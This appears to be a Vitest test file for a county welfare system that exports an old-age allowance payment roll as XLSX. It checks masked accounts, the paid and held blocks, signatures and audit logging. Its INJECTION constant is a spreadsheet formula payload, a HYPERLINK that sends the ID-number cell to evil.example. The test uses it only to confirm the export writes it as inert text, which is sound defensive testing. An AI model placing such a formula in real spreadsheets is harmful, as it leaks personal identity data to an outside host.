import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Scope } from '../../platform/scope.js';
import { today } from '../../platform/time.js';
import { createSeededContext, dialects, importText, userScope, type TestContext } from '../../testing/harness.js';
import { demoCard } from '../demo/files.js';
import { makeResidentId } from '../register/resident-id.js';
import { maskCard } from '../register/sources/payee.js';
import { approveRoll, editLine, submitRoll } from './rolls.service.js';
import { exportRoll } from './rolls.xlsx.js';
import { NO_ACCOUNT } from './rolls.xlsx.js';

const GAP = '\u3000';
const INJECTION = '=HYPERLINK("http://evil.example/?d="&C4,"点我")';
const HEADER = ['序号', '姓名', '身份证号', '镇街', '村社区', '项目', '发放账户', '标准(元)', '金额(元)', '状态', '备注'];

// The roll's XLSX as the county finance office takes it (issue 14): account column, paid and held
// lines kept apart with their own counts and totals, header repeated on every printed page, page
// numbers, and the signature block with the real names of maker and checker.
describe.each(dialects)('the roll as a finance-ready XLSX (%s)', (dialect) => {
  let ctx: TestContext;
  let town1: Scope;
  let checker: Scope;
  let village: string;
  let runId = 1000;
  const ids = [1, 2, 3, 4].map((n) => makeResidentId('990101', '1940-05-06', n, n % 2 ? 'M' : 'F'));
  const names = ['赵一', '钱二', '孙三', '李四'];
  const cards = ids.map((id) => demoCard(id));
  const personIds: number[] = [];

  /** A draft roll of town1 with these lines, as a run leaves it (a line held is amount 0, its standard kept). */
  async function draftRoll(kind: 'regular' | 'backpay', lines: Array<{ person: number; fen: number; held?: string }>) {
    const r = await ctx.db
      .insertInto('payment_rolls')
      .values({
        run_id: ++runId,
        period: '2026-12',
        item_id: 'nx-10',
        item_name: '高龄津贴',
        town_code: town1.regionCode,
        kind,
        status: 'draft',
        lines: lines.length,
        total_fen: lines.reduce((a, l) => a + (l.held ? 0 : l.fen), 0),
        made_by: null,
        made_by_name: null,
        made_at: null,
        checked_by: null,
        checked_by_name: null,
        checked_at: null,
        note: null,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    for (const l of lines)
      await ctx.db
        .insertInto('roll_lines')
        .values({
          roll_id: r.id,
          person_id: personIds[l.person]!,
          region_code: village,
          amount_fen: l.held ? 0 : l.fen,
          standard_fen: l.fen,
          excluded: l.held ? 1 : 0,
          remark: l.held ?? null,
        })
        .execute();
    return r.id;
  }

  async function read(body: Buffer) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(body as unknown as ArrayBuffer);
    return wb.worksheets[0]!;
  }
  const text = (ws: ExcelJS.Worksheet, row: number) => (ws.getRow(row).values as unknown[]).slice(1);
  /** The row whose first cell starts with this text. */
  const rowStarting = (ws: ExcelJS.Worksheet, start: string) => {
    for (let r = 1; r <= ws.rowCount; r++) if (String(ws.getRow(r).getCell(1).value ?? '').startsWith(start)) return r;
    return -1;
  };
  const displayName = async (username: string) =>
    (await ctx.db.selectFrom('users').select('display_name').where('username', '=', username).executeTakeFirstOrThrow()).display_name;

  beforeAll(async () => {
    ctx = await createSeededContext(dialect);
    town1 = await userScope(ctx, 'town1');
    checker = await userScope(ctx, 'checker1');
    village = ctx.regions.all().find((r) => r.level === 'village' && r.parent_code === town1.regionCode)!.code;
    await importText(ctx, 'public_security', ['身份证号,姓名,村（社区）代码', ...ids.map((id, i) => `${id},${names[i]},${village}`)].join('\n'));
    // persons 0..2 have accounts; person 3 has none
    await importText(
      ctx,
      'civil_affairs',
      ['身份证号,姓名,银行卡号,开户银行,账户户名', ...ids.slice(0, 3).map((id, i) => `${id},${names[i]},${cards[i]},农村商业银行,${names[i]}`)].join('\n'),
    );
    for (const id of ids)
      personIds.push((await ctx.db.selectFrom('persons').select('id').where('id_hash', '=', ctx.cipher.lookupHash(id)).executeTakeFirstOrThrow()).id);
    // a name no import accepts (name_chars), written by some other path: the roll must keep it text
    await ctx.db.updateTable('persons').set({ name: INJECTION }).where('id', '=', personIds[1]!).execute();
  }, 60_000);
  afterAll(async () => ctx?.cleanup());

  it('an approved roll: header, masked accounts, paid and held blocks with their own counts and totals, real names signing, print setup', async () => {
    const rollId = await draftRoll('regular', [
      { person: 0, fen: 20000 },
      { person: 1, fen: 20000 },
      { person: 2, fen: 30000 },
      // paused automatically by the run: no account to pay into
      { person: 3, fen: 10000, held: '无发放账户，暂停发放' },
    ]);
    // the maker holds a line back by hand, submits; a second officer approves
    await editLine(ctx, town1, rollId, personIds[2]!, { excluded: true, remark: '待核实：户籍迁出' });
    await submitRoll(ctx, town1, rollId);
    await approveRoll(ctx, checker, rollId);

    const file = await exportRoll(ctx, town1, rollId);
    expect(file.fileName).toBe(`2026-12-高龄津贴-${ctx.regions.get(town1.regionCode)!.name}.xlsx`);
    const ws = await read(file.body);
    const town = ctx.regions.get(town1.regionCode)!.name;
    const villageName = ctx.regions.get(village)!.name;
    const county = ctx.regions.counties()[0]!.name;

    // rows 1-2: title (approved: no mark) and the line naming county, period, item, town, kind, status, unit
    expect(ws.getCell('A1').value).toBe(`${county}2026年12月高龄津贴发放名册（${town}）`);
    const note = String(ws.getCell('A2').value);
    for (const part of [county, '期间：2026年12月', '项目：高龄津贴', `镇街：${town}`, '类别：发放名册', '状态：已审核', '单位：元'])
      expect(note).toContain(part);
    // row 3: the header, frozen and repeated on every printed page; page numbers; A4 landscape fit to width
    expect(text(ws, 3)).toEqual(HEADER);
    expect(ws.pageSetup.printTitlesRow).toBe('3:3');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(ws.headerFooter.oddFooter).toBe('第 &P 页，共 &N 页');
    expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0 });

    // the paid block: persons 0 and 1, full IDs, the account masked with its bank
    expect(text(ws, 4)).toEqual([1, names[0], ids[0], town, villageName, '高龄津贴', `农村商业银行 ${maskCard(cards[0]!)}`, 200, 200, '发放']);
    // a formula-like name is written as text behind an apostrophe, never as a formula
    const injected = ws.getRow(5).getCell(2);
    expect(injected.value).toBe(`'${INJECTION}`);
    expect(injected.type).toBe(ExcelJS.ValueType.String);
    expect(injected.formula).toBeUndefined();
    // (the account's holder, 钱二, is not the name on the roll: the cell says whose account it is)
    expect(text(ws, 5).slice(2)).toEqual([ids[1], town, villageName, '高龄津贴', `农村商业银行 ${maskCard(cards[1]!)}（户名：钱二）`, 200, 200, '发放']);
    // the paid total: its count, and a SUM over the paid block with the result cached
    expect(text(ws, 6).slice(0, 2)).toEqual(['发放合计', '2 人']);
    expect(ws.getRow(6).getCell(9).value).toEqual({ formula: 'SUM(I4:I5)', result: 400 });

    // the held block under its own sub-header: standard shown, amount 0, the remark says why
    expect(String(ws.getRow(7).getCell(1).value)).toMatch(/^暂停发放（以下 2 人本期不发放/);
    expect(text(ws, 8)).toEqual([
      1,
      names[2],
      ids[2],
      town,
      villageName,
      '高龄津贴',
      `农村商业银行 ${maskCard(cards[2]!)}`,
      300,
      0,
      '暂停发放',
      '待核实：户籍迁出',
    ]);
    expect(text(ws, 9)).toEqual([2, names[3], ids[3], town, villageName, '高龄津贴', NO_ACCOUNT, 100, 0, '暂停发放', '无发放账户，暂停发放']);
    expect(text(ws, 10).slice(0, 2)).toEqual(['暂停发放合计', '2 人']);
    expect(ws.getRow(10).getCell(8).value).toEqual({ formula: 'SUM(H8:H9)', result: 400 });
    expect(String(ws.getRow(10).getCell(11).value)).toBe('应发 400.00 元，本期不发放');
    expect(ws.getRow(11).getCell(1).value).toBe('名册共 4 人：发放 2 人，合计 400.00 元；暂停发放 2 人（应发 400.00 元）');
    // the paid total is the roll's total: held lines pay nothing
    const roll = await ctx.db.selectFrom('payment_rolls').selectAll().where('id', '=', rollId).executeTakeFirstOrThrow();
    expect(roll.total_fen).toBe(40000);

    // the signature block: the real names the roll was signed with, not the logins; 负责人 by hand; the stamp
    const sign = rowStarting(ws, '制表人：');
    expect(sign).toBeGreaterThan(11);
    const signed = ws.getRow(sign);
    expect(signed.getCell(1).value).toBe(`制表人：${await displayName('town1')}${GAP}日期：${today()}`);
    expect(signed.getCell(5).value).toBe(`审核人：${await displayName('checker1')}${GAP}日期：${today()}`);
    expect(signed.getCell(8).value).toBe(`负责人：________${GAP}日期：________`);
    expect(JSON.stringify(text(ws, sign))).not.toMatch(/town1|checker1/);
    const stamp = [...Array(ws.rowCount).keys()].map((i) => ws.getRow(i + 1).getCell(8).value).filter((v) => v === '（盖章）');
    expect(stamp).toHaveLength(1);

    // no full card number anywhere in the file (cells, shared strings, any part of the package)
    const zip = await JSZip.loadAsync(file.body);
    const parts = await Promise.all(Object.values(zip.files).map((f) => (f.dir ? '' : f.async('string'))));
    const all = parts.join('\n');
    expect(all).toContain(maskCard(cards[0]!));
    for (const card of cards) expect(all).not.toContain(card);

    // the export is audited, with the full IDs it disclosed and the paid and held counts
    const audit = await ctx.db.selectFrom('audit_log').selectAll().where('action', '=', 'rolls.export').where('entity_id', '=', String(rollId)).execute();
    expect(audit).toHaveLength(1);
    expect(JSON.parse(String(audit[0]!.detail))).toMatchObject({ lines: 4, paid: 2, held: 2, totalFen: 40000 });
  });

  it('an unapproved back-pay roll keeps its mark, names the months and why, and leaves the signatures blank', async () => {
    const rollId = await draftRoll('backpay', [{ person: 0, fen: 20000 }]);
    await ctx.db
      .insertInto('difference_months')
      .values({
        roll_id: rollId,
        person_id: personIds[0]!,
        item_id: 'nx-10',
        month: '2026-10',
        due_fen: 20000,
        paid_fen: 0,
        reasons: JSON.stringify([{ kind: 'payment_failed', rollId: 7, bankCode: 'E01', reason: '账户冻结' }]),
      })
      .execute();
    const ws = await read((await exportRoll(ctx, town1, rollId)).body);
    expect(String(ws.getCell('A1').value)).toMatch(/2026年12月高龄津贴补发名册（.+）【草稿，未审核，不作发放依据】$/);
    expect(String(ws.getCell('A2').value)).toContain('类别：补发名册');
    expect(String(ws.getRow(4).getCell(11).value)).toBe('2026-10 应发 200.00 已发 0.00（代发失败（第 7 号名册，银行回盘：E01 账户冻结），重新发放）');
    expect(text(ws, 5).slice(0, 2)).toEqual(['发放合计', '1 人']);
    expect(ws.getRow(5).getCell(9).value).toEqual({ formula: 'SUM(I4:I4)', result: 200 });
    // no held lines: no held block, the grand line says 0
    expect(rowStarting(ws, '暂停发放')).toBe(-1);
    expect(ws.getRow(6).getCell(1).value).toBe('名册共 1 人：发放 1 人，合计 200.00 元；暂停发放 0 人');
    const sign = ws.getRow(rowStarting(ws, '制表人：'));
    expect(sign.getCell(1).value).toBe(`制表人：________${GAP}日期：________`);
    expect(sign.getCell(5).value).toBe(`审核人：________${GAP}日期：________`);
  });
});
